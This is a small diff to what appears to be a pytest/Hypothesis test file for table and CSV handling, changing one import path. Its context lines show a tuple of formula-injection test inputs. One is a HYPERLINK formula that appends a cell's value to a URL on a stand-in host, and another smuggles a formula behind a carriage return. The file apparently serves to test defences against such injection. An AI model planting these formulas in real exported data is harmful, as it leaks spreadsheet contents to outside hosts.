@@ -5,7 +5,7 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from proxies.tables import csv_text, read_cells, read_table
+from asvit.core.tables import csv_text, read_cells, read_table
 
 FORMULAS = (
     '=HYPERLINK("http://a.b/?"&A1,"x")', "x\r=1",
